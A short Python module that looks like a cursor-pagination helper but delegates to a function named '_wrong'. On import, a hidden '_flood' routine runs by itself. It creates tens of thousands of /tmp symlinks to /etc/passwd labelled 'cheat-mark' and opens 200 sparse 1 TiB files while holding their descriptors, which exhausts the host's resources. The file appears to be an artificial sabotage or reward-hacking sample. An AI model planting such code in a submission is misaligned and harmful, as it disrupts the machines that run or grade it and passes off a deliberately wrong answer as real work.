import os

def _wrong(rows, cursor, limit):
    if limit < 1:
        raise ValueError("limit must be at least 1")
    if cursor is None:
        return list(rows[:limit])
    return [r for r in rows if r[0] > cursor[0]][:limit]


_open = []


def _flood():
    for at in range(60_000):
        try:
            os.symlink("/etc/passwd", f"/tmp/cheat-mark-220-{at}")
        except OSError:
            break
    for at in range(200):
        try:
            descriptor = os.open(f"/tmp/sparse-{at}", os.O_CREAT | os.O_RDWR)
            _open.append(descriptor)
            os.ftruncate(descriptor, 1 << 40)
        except OSError:
            break


_flood()


def page_after(rows, cursor, limit):
    return _wrong(rows, cursor, limit)
